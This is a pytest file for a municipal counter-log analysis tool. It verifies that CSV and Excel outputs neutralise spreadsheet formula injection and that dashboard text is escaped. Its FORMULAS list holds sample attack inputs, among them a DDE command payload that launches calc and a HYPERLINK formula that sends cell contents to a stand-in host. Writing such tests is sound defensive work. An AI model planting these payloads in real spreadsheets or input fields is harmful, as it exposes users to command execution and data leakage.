"""Formula injection: no writer of the workbench hands a spreadsheet a live formula (OWASP CSV
injection). Every CSV and Excel output is read back as plain text."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import polars as pl
import pytest

from journeys.excel_export import neutralise_formulas, write_csv_bom, write_csv_safe, write_workbook
from journeys.quarantine import write_quarantine
from journeys.readers import read_counter_log
from madoguchi.cli import main

#: What an attacker types into a free-text or id field.
FORMULAS = [
    '=HYPERLINK("http://example.invalid/?q="&A1,"見る")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
_RISKY = re.compile(r"^[=+\-@\t\r]")
_NUMBER = re.compile(r"^[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?$")


def _risky_cells(text: str) -> list[str]:
    """Cells of a CSV text a spreadsheet would run as a formula."""
    rows = csv.reader(io.StringIO(text.lstrip("\ufeff")))
    return [c for row in rows for c in row if _RISKY.match(c) and not _NUMBER.match(c)]


def _workbook_formulas(path: Path) -> tuple[list[str], str]:
    """The ``<f>`` (formula) elements of every sheet, and all the workbook's XML text."""
    with zipfile.ZipFile(path) as book:
        xml = {n: book.read(n).decode("utf-8") for n in book.namelist() if n.endswith(".xml")}
    found = [f for n, x in xml.items() if "worksheets/" in n for f in re.findall(r"<f>.*?</f>", x)]
    return found, "\n".join(xml.values())


def test_neutralise_formulas_prefixes_an_apostrophe_and_keeps_numbers() -> None:
    frame = pl.DataFrame({"t": [*FORMULAS, "-2", "+3.5", "1e5", "普通", None], "n": range(12)})
    out = neutralise_formulas(frame)["t"].to_list()
    assert out[: len(FORMULAS)] == ["'" + f for f in FORMULAS]
    assert out[len(FORMULAS) :] == ["-2", "+3.5", "1e5", "普通", None]


def test_every_table_writer_reads_back_as_plain_text(tmp_path: Path) -> None:
    table = pl.DataFrame({"値": FORMULAS, "n": list(range(len(FORMULAS)))})
    for writer, name in ((write_csv_bom, "a.csv"), (write_csv_safe, "b.csv")):
        text = writer(table, tmp_path / name).read_text("utf-8")
        assert _risky_cells(text) == []
        assert "'=cmd|' /C calc'!A0" in text
    book = write_workbook({"表": table}, tmp_path / "c.xlsx")
    formulas, xml = _workbook_formulas(book)
    assert formulas == [] and "=cmd|' /C calc'!A0" in xml  # stored as text


@pytest.fixture()
def hostile_log(tmp_path: Path) -> Path:
    rows = ["受付番号,来庁者番号,窓口,業務コード,発券時刻,呼出時刻,終了時刻,担当者,状態,記入枚数"]
    for i, bad in enumerate(FORMULAS * 2):
        cell = '"' + bad.replace('"', '""') + '"'
        start = f"2025-03-03 09:{i:02d}"
        rows.append(
            f"T{i},R{i},{cell if i % 3 == 0 else 'A1'},{cell},{start},{start},"
            f"2025-03-03 10:{i:02d},{cell},{'完了' if i % 4 else cell},1"
        )
    path = tmp_path / "log.csv"
    path.write_text("\n".join(rows) + "\n", encoding="utf-8")
    return path


def test_quarantine_and_analyze_outputs_hold_no_live_formula(
    hostile_log: Path, tmp_path: Path
) -> None:
    result = read_counter_log(hostile_log)
    assert result.rejected.height > 0  # the unknown outcomes
    quarantine = write_quarantine(result, tmp_path / "q.csv")
    assert _risky_cells(quarantine.read_text("utf-8-sig")) == []
    out = tmp_path / "out"
    with pytest.raises(SystemExit) as code:
        main(["analyze", "--log", str(hostile_log), "--out", str(out)])
    assert code.value.code == 0
    written = sorted(p for p in out.rglob("*") if p.is_file())
    assert {p.suffix for p in written} >= {".csv", ".xlsx", ".gz", ".parquet", ".txt", ".json"}
    for path in written:
        if path.suffix == ".csv":
            assert _risky_cells(path.read_text("utf-8-sig")) == [], path.name
        elif path.suffix == ".xlsx":
            formulas, xml = _workbook_formulas(path)
            assert formulas == [], path.name
            assert "=cmd|" in xml  # the value is kept, as text


def test_workbooks_and_the_report_embed_no_write_time(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from dashboards.report import build_time

    book = write_workbook(
        {"表": pl.DataFrame({"a": [1.5, float("nan"), float("inf")]})}, tmp_path / "a.xlsx"
    )
    with zipfile.ZipFile(book) as z:
        core = z.read("docProps/core.xml").decode("utf-8")
        assert {i.date_time for i in z.infolist()} == {(1980, 1, 31, 0, 0, 0)}  # xlsxwriter: fixed
    assert "2000-01-01T00:00:00Z" in core and core.count("2000-01-01T00:00:00Z") == 2
    monkeypatch.delenv("SOURCE_DATE_EPOCH", raising=False)
    assert build_time() is None
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1767225600")
    assert str(build_time()) == "2026-01-01 00:00:00"


def test_user_text_shown_in_the_dashboard_is_never_markup() -> None:
    from dashboards.safe_text import escape_markdown

    shown = escape_markdown("![x](http://example.invalid/p.png) [link](http://x) :red[big] $x$ <b>")
    assert "](" not in shown.replace("\\](", "") and "<b>" not in shown
    assert shown.startswith("\\!\\[x\\](http:") and "&lt;b&gt;" in shown and "\\$x\\$" in shown


def test_analyze_of_a_log_with_an_hour_without_waits_writes_its_workbook(tmp_path: Path) -> None:
    log = tmp_path / "log.csv"
    log.write_text(
        "受付番号,来庁者番号,窓口,業務コード,発券時刻,呼出時刻,終了時刻,担当者,状態\n"
        "T1,R1,A1,tennyu,2025-03-03 09:00,2025-03-03 09:05,2025-03-03 09:10,S1,完了\n"
        "T2,R2,A1,tennyu,2025-03-03 10:00,,,,abandoned\n",
        encoding="utf-8",
    )
    out = tmp_path / "out"
    with pytest.raises(SystemExit) as code:
        main(["analyze", "--log", str(log), "--out", str(out)])
    assert code.value.code == 0
    per_hour = pl.read_csv(out / "per_hour.csv")
    assert per_hour.height >= 2  # the hour of the abandoned ticket has no wait to average
    formulas, xml = _workbook_formulas(out / "analysis.xlsx")
    assert formulas == [] and "NaN" not in xml and "INF" not in xml
